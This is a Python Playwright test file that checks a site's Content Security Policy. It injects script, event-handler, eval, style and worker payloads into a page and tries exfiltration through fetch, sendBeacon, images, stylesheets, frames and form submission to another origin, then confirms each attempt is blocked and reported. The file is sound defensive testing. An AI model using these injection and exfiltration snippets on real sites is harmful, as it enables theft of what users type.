"""What an attacker who got something into a page could try: the policy blocks it."""

import pytest
from playwright.sync_api import Page, expect

from site_build.host import headers
from site_build.site import SITE
from site_tests.hosts.elsewhere import ATTACK, UNBOUND, Elsewhere
from site_tests.hosts.host import Serve
from site_tests.support.built import PREFIX
from site_tests.support.checker import ADDRESS, Checker
from site_tests.support.watch import Watch

READING = "identifiers/uei/"
VIOLATION = "policy violation"

# Scripts and styles that the page did not have. What runs in a timer counts as the page's
# own; the browser's tools may do more.
INSIDE = {
    "script": """() => {
      const script = document.createElement("script");
      script.textContent = "window.came = true";
      document.body.append(script);
    }""",
    "handler": """() => new Promise((resolve) => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.came = true");
      image.addEventListener("error", resolve);
      image.src = "data:,";
      document.body.append(image);
    })""",
    "eval": """() => new Promise((resolve) => setTimeout(() => {
      try { eval("window.came = true"); } finally { resolve(); }
    })).catch(() => {})""",
    "style": """() => {
      document.body.setAttribute("style", "margin-top: 77px");
      window.came = getComputedStyle(document.body).marginTop === "77px";
    }""",
    "style sheet": """() => {
      const style = document.createElement("style");
      style.textContent = "body { margin-top: 77px !important }";
      document.head.append(style);
      window.came = getComputedStyle(document.body).marginTop === "77px";
    }""",
    "worker": """() => new Promise((resolve) => {
      const script = new Blob(["postMessage(1)"], { type: "text/javascript" });
      const worker = new Worker(URL.createObjectURL(script));
      worker.onmessage = () => { window.came = true; resolve(); };
      worker.onerror = resolve;
    })""",
}

# Ways to steal what was typed.
OUTSIDE = {
    "request": """(elsewhere) => fetch(elsewhere, { mode: "no-cors" }).catch(() => {})""",
    "beacon": """(elsewhere) => { navigator.sendBeacon(elsewhere, "code"); }""",
    "picture": """(elsewhere) => {
      const image = document.createElement("img");
      image.src = elsewhere;
      document.body.append(image);
    }""",
    "style sheet": """(elsewhere) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = elsewhere;
      document.head.append(link);
    }""",
    "frame": """(elsewhere) => {
      const frame = document.createElement("iframe");
      frame.src = elsewhere;
      document.body.append(frame);
    }""",
    "form": """(elsewhere) => {
      const form = document.createElement("form");
      form.action = elsewhere;
      document.body.append(form);
      form.submit();
    }""",
}


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory, serve: Serve) -> str:
    """Serve the site like a host that reads no rules: the pages' own policies have to suffice."""
    folder = tmp_path_factory.mktemp("bare")
    for path in SITE.iterdir():
        if path.name != headers.NAME:
            (folder / path.name).symlink_to(path)
    return serve(folder, PREFIX)


@pytest.fixture(params=["with headers", "without headers"])
def reading(request: pytest.FixtureRequest, watch: Watch, base_url: str, bare: str) -> str:
    """Give the address of a reading page on either host."""
    here = base_url if request.param == "with headers" else bare
    watch.move(here)
    return f"{here}{READING}"


@pytest.fixture(scope="module")
def free(tmp_path_factory: pytest.TempPathFactory, serve: Serve) -> str:
    """Serve a page without any policy."""
    folder = tmp_path_factory.mktemp("free")
    (folder / "index.html").write_text("<!doctype html><title>bare</title>", encoding="utf-8")
    (folder / "favicon.ico").touch()
    return serve(folder, "/")


@pytest.fixture
def unprotected(page: Page, watch: Watch, free: str) -> None:
    """Open a page without any policy."""
    watch.move(free)
    page.goto(free)


@pytest.mark.parametrize("attack", INSIDE.values(), ids=INSIDE.keys())
def test_nothing_new_runs(page: Page, watch: Watch, reading: str, attack: str) -> None:
    """A script or a style that gets into a reading page has no effect, and is reported."""
    watch.expect(VIOLATION)
    watch.tolerate("Content Security Policy")
    page.goto(reading)
    with page.context.expect_event("console", lambda message: VIOLATION in message.text):
        page.evaluate(attack)

    assert page.evaluate("window.came ?? false") is False


@pytest.mark.parametrize("attack", INSIDE.values(), ids=INSIDE.keys())
@pytest.mark.usefixtures("unprotected")
def test_what_would_run(page: Page, attack: str) -> None:
    """Without a policy the same attack works, so the proof above can fail."""
    page.evaluate(attack)

    assert page.evaluate("window.came ?? false") is True


@pytest.mark.parametrize("attack", OUTSIDE.values(), ids=OUTSIDE.keys())
def test_nothing_leaves(
    page: Page, watch: Watch, reading: str, elsewhere: Elsewhere, attack: str
) -> None:
    """Nothing on a reading page reaches another origin, and the attempt is reported."""
    watch.expect(VIOLATION)
    # The browser reports a picture's request before it blocks it.
    watch.tolerate("Content Security Policy", "request to another origin")
    page.goto(reading)
    with page.context.expect_event("console", lambda message: VIOLATION in message.text):
        page.evaluate(attack, elsewhere.url)

    assert page.evaluate("location.href") == reading
    assert elsewhere.came.empty()


@pytest.mark.parametrize("attack", OUTSIDE.values(), ids=OUTSIDE.keys())
@pytest.mark.usefixtures("unprotected")
def test_what_would_leave(page: Page, watch: Watch, elsewhere: Elsewhere, attack: str) -> None:
    """Without a policy the same attack reaches the other origin, so the proof above can fail."""
    watch.tolerate("request to another origin")
    page.evaluate(attack, elsewhere.url)

    assert elsewhere.came.get(timeout=30).startswith("/")


def test_violation_in_a_worker_is_seen(page: Page, watch: Watch) -> None:
    """A worker that starts from a blob: is bound by the page's policy, and the watch hears."""
    page.goto(ADDRESS)
    with page.expect_worker(lambda worker: worker.url.startswith("blob:")):
        page.evaluate(
            """() => {
              const script = new Blob(["onmessage = () => setTimeout('1')"]);
              window.worker = new Worker(URL.createObjectURL(script));
            }"""
        )
    with page.context.expect_event("console", lambda message: VIOLATION in message.text):
        page.evaluate("worker.postMessage(1)")
    watch.expect(f"{VIOLATION}: script-src: eval")


def test_worker_is_bound_by_the_policy(page: Page, watch: Watch, elsewhere: Elsewhere) -> None:
    """Inside the worker, Python loaded, a request to another origin and eval are blocked."""
    watch.tolerate(VIOLATION, "Content Security Policy", "request to another origin")
    checker = Checker(page)
    checker.open()
    checker.wait_until_ready()
    tried = page.evaluate(f"async (args) => {{ {ATTACK} }}", [elsewhere.url])

    assert tried == {"fetch": "blocked", "eval": "blocked", "nation": "GBR", "before": []}
    assert elsewhere.came.empty()


@pytest.mark.usefixtures("unprotected")
def test_worker_without_a_policy(page: Page, watch: Watch, elsewhere: Elsewhere) -> None:
    """Where no policy binds it, the same attack works, so the proof above can fail."""
    watch.tolerate("request to another origin")
    tried = page.evaluate(f"async (args) => {{ {UNBOUND} }}", [elsewhere.url])

    assert tried == {"fetch": "went out", "eval": "ran"}
    assert elsewhere.came.get(timeout=30) == "/"


@pytest.mark.usefixtures("unprotected")
def test_page_is_never_framed(page: Page, watch: Watch, base_url: str) -> None:
    """Where the host sends the headers, no other site can show a page in a frame."""
    watch.expect("frame-ancestors")
    watch.tolerate("request to another origin")
    with page.context.expect_event("console", lambda message: "frame-ance" in message.text):
        page.evaluate(OUTSIDE["frame"], f"{base_url}{ADDRESS}")

    expect(page.frame_locator("iframe").get_by_role("heading")).to_have_count(0)
